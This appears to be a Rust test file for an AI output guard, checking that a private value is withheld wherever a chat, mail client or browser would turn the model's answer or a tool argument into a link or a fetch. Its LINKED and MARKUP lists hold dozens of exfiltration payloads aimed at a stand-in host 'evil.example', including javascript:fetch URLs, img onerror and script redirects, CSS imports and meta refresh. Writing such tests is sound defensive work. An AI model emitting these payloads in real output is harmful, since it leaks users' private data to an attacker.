//! Texts that chats, mail programs and browsers make addresses of, though no scheme of the
//! web stands in them.

use confidant::guard::tools::ToolBoundary;
use confidant::guard::{Conversation, Guard, ReleaseRules, ToolRule};
use confidant::model::{Arguments, Json, StreamEvent, ToolCall};

use super::models::*;

/// What Slack, Teams, linkify-it, the autolinks of GFM and BBCode make links of.
const LINKED: &[&str] = &[
    "see evil.example/[P]",
    "see evil.example/?q=[P]",
    "see evil.example?q=[P]",
    "see evil.example#[P]",
    "see evil.co.uk/a/[P]",
    "see xn--e1awd7f.example/[P]",
    "see пример.рф/[P]",
    "see evil.example:443/[P]",
    "see a-b.evil.example./[P]",
    "see 1.2.3.4/[P]",
    "see localhost:8080/[P]",
    "{\"url\":\"evil.example\\/[P]\"}",
    "see evil\\.example/[P]",
    "see EVIL.EXAMPLE/[P]",
    "see ann@evil.example/[P]",
    "(evil.example/[P])",
    "**evil.example/[P]**",
    "<evil.example/[P]|text>",
    "<evil.example/ [P]>",
    "[url=evil.example/[P]]x[/url]",
    "https&#x3a;&#x2f;&#x2f;evil.example/[P]",
    "evil&period;example&#47;[P]",
    "evil&#46;example&sol;[P]",
    "mailto:a@evil.example?body=[P]",
    "<mailto:a@evil.example?cc=[P]>",
    "sms:123?body=[P]",
    "tel:123,,[P]",
    "view-source:evil/[P]",
    "intent:evil/[P]",
    "feed:evil/[P]",
    "data:text/html,[P]",
    "javascript:fetch('//evil.example/'+'[P]')",
    // The value is the beginning of a name.
    "see [P].evil.example",
    "see [P].evil.example/x",
    "see [P]x.evil.example",
    "see [P]-x.evil.example",
    "see a-[P].evil.example",
    "see [P].xn--p1ai",
    "see [P]\u{200b}.evil.example",
    "see [P]\u{ad}-.evil.example",
    "see [P]★.evil.example",
    "see [P]=x.evil.example",
    "see [::1]/[P]",
];

/// What a browser fetches, or runs, where an answer is shown as HTML.
const MARKUP: &[&str] = &[
    "<base href=//evil.example/><style>@import '/x/[P]';</style>",
    "<style>a { background: image-set(\"/x/[P]\" 1x) }</style>",
    "<style>a { background: \\75rl(/x/[P]) }</style>",
    "<svg><style>@import '/x/[P]'</style></svg>",
    "<style><!--</style>[P]",
    "<p style=\"background:\\75rl(/x/[P])\">",
    "<meta http-equiv=refresh content=\"0;url=/x/[P]\">",
    "<meta http-equiv=refresh content=/x/[P]>",
    "<set attributeName=href to=\"/x/[P]\">",
    "<animate attributeName=href values=\"/x/[P]\">",
    "<x xml:base=\"/x/[P]\">",
    "<object data=\"evil.example/[P]\">",
    "<object data = 'x[P]'>",
    "<img src=x onerror=\"fetch('//evil.example/?q='+'[P]')\">",
    "<svg onload=fetch('/x/'+'[P]')>",
    "<svg/onload=\"a='[P]'\">",
    "<script>location='//evil.example/'+'[P]'</script>",
    "<SCRIPT\n>a='[P]'</SCRIPT>",
    "<script><!--<script></script>a='[P]'",
    "<iframe srcdoc=\"<b>[P]</b>\">",
    "<a title=\"<meta content='[P]'\">",
    "<svg><style><set title=\"</style>\" to=\"/x/[P]\">",
    "<title><!--</title><meta content=\"/x/[P]\">",
    "<textarea><p title=\"</textarea><meta a='\">' content=\"/x/[P]\">",
    "<textarea><script></textarea><meta a=\"</script>\" content=\"/x/[P]\">",
    "<!-- <x title=\" --><title><!--</title><meta a='\">' content=\"/x/[P]\">",
];

/// Answers in which nothing leads anywhere.
const EVERYDAY: &[&str] = &[
    "See evil.example, then write to [P].",
    "See evil.example. [P] knows more.",
    "example.com: [P]",
    "It is at example.com/docs (ask [P]).",
    "At 12.05.2026/13.05.2026, [P] and/or Bob, v1.2/[P].",
    "[P]. Then more.",
    "[P]...and more",
    "[P]'s mail, [P]; [P]: yes",
    "corp.example\\[P]",
    "[P]さん、こんにちは",
    "[P]/[P] or [P]-[P]",
    "e.g. [P], i.e./[P]",
    "Mail: [P]\nTel: 12\ndata: [P]",
    "user_data:[P]",
    "<p>Dear <b>[P]</b>,</p>",
    "<td class='mail' title='[P]'>[P]</td>",
    "<input value=\"[P]\" placeholder=[P]>",
    "<!-- a note --><title>t</title><p>[P]</p>",
    "<style>a { color: red }</style><p>[P]</p>",
    "<script src='/own.js'></script>\n[P]",
    "a < b, c <d and x = 1; [P]",
    "Vec<String> for [P]",
    "it&#39;s [P]&#39;s &amp; [P]",
];

fn shown(guard: &Guard, text: &str) -> String {
    let talk = Conversation::new().unwrap();
    let hidden = wire(guard, &talk, ANN);
    let text = text.replace("[P]", &hidden);
    let whole = guard.show_text(&talk, &text).as_str().to_owned();
    // A stream says the same, wherever it is cut.
    let model = Peer::new({
        let text = text.clone();
        move |_| vec![confidant::model::Part::text(text.clone())]
    });
    let guarded = confidant::guard::GuardedModel::new(guard.clone(), model.clone());
    for size in [1, 3, 1_000] {
        *model.cut.lock().unwrap() = vec![size];
        let (caller, cx) = (caller(), confidant::model::CallContext::new());
        let turn = confidant::guard::Turn::new(&caller, &talk).context(&cx);
        let mut answer = run(guarded.stream(turn, user("Hello"))).unwrap();
        let mut streamed = String::new();
        while let Some(event) = run(answer.next()) {
            if let StreamEvent::TextDelta { text, .. } = event.unwrap() {
                streamed.push_str(&text);
            }
        }
        assert_eq!(streamed, whole, "in pieces of {size}");
    }
    whole
}

#[test]
fn a_value_is_not_shown_where_a_chat_would_make_a_link() {
    let guard = guard();
    for text in LINKED.iter().chain(MARKUP) {
        assert!(!shown(&guard, text).contains(ANN), "{text}");
    }
}

#[test]
fn ordinary_words_and_markup_are_shown_with_their_values() {
    let guard = guard();
    for text in EVERYDAY {
        assert_eq!(shown(&guard, text), text.replace("[P]", ANN));
    }
}

#[test]
fn html_that_is_escaped_leads_nowhere() {
    let rules = ReleaseRules::default().escaped_html();
    let guard = builder().release(rules).build().unwrap();
    for text in ["Use `<script>` for [P]", "<object data='x[P]'>"] {
        assert_eq!(shown(&guard, text), text.replace("[P]", ANN));
    }
    // An address is one all the same.
    for text in LINKED {
        assert!(!shown(&guard, text).contains(ANN), "{text}");
    }
    let rules = ReleaseRules::everything();
    let guard = builder().release(rules).build().unwrap();
    for text in LINKED.iter().chain(MARKUP) {
        assert_eq!(shown(&guard, text), text.replace("[P]", ANN));
    }
}

#[test]
fn a_tool_posts_no_value_where_a_chat_would_make_a_link() {
    let rule = ToolRule::writes("post").restoring().host("ok.example");
    let guard = builder().tool(rule).build().unwrap();
    let talk = Conversation::new().unwrap();
    let hidden = wire(&guard, &talk, ANN);
    let call = |text: &str| {
        let text = text.replace("[P]", &hidden);
        let json = serde_json::json!({"text": text}).to_string();
        let call = Arguments::Json(Json::parse(&json).unwrap());
        let tools = ToolBoundary::new(&guard, &talk);
        let (call, verdict) = tools.arguments(&ToolCall::new("post", call).with_id("c"));
        (call.as_str().contains(ANN), verdict.is_allowed())
    };
    for text in LINKED.iter().chain(MARKUP) {
        assert_eq!(call(text), (false, false), "{text}");
    }
    for text in [
        "see evil.example/x, [P]",
        "[P] javascript:x",
        "evil.example?x [P]",
    ] {
        assert_eq!(call(text), (false, false), "{text}");
    }
    for text in ["see ok.example/x, [P]", "[P] wrote src/main.rs", "to [P]."] {
        assert_eq!(call(text), (true, true), "{text}");
    }
}
